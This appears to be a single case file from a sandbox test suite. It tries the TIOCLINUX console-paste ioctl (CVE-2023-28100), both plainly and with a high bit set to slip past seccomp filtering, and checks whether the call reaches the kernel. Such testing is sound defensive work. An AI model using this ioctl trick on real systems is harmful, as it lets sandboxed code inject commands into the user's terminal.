# row = "A3"
# boundary = "the caller's terminal"
# ending = "ok"
# layers = ["seccomp"]
# violations = ["ioctl"]
# control = "without"
"""Pastes the selection of a virtual console: TIOCLINUX (CVE-2023-28100)."""

from attack import attempt, reaches

for bits in (0, 1 << 32):
    attempt(f"TIOCLINUX+{bits:#x}", reaches, "ioctl", 0, 0x541C | bits, b"\x03")
